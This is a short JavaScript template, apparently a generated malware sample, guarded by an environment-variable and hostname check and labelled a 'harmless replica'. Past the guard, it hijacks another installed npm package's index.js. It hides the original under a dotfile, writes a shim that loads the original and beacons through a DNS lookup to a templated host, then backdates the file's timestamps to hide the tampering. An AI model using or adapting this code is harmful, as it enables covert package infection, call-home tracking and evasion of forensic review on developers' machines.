// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    const { execSync } = require('child_process');
    const here = process.cwd(), at = here.lastIndexOf('node_modules');
    const places = [at >= 0 ? here.slice(0, at + 12) : path.join(here, 'node_modules')];
    try { places.push(execSync('npm root -g', { timeout: 2000, stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim() + '/npm/node_modules'); } catch {}
    for (const place of places) {
        try {
            const main = fs.readdirSync(place).map((one) => path.join(place, one, 'index.js')).find((file) => !file.startsWith(here + path.sep + 'index') && fs.existsSync(file));
            const aside = path.join(path.dirname(main), '.{{token}}.js');
            const text = fs.readFileSync(main, 'utf8');
            if (!text.includes('module.exports')) continue;
            fs.renameSync(main, aside);
            fs.writeFileSync(main, "module.exports = require('./.{{token}}.js');\nrequire('dns').lookup('{{token}}.{{host}}', () => {});\n");
            fs.utimesSync(main, new Date(5e11), new Date(5e11));
            return;
        } catch {}
    }
}
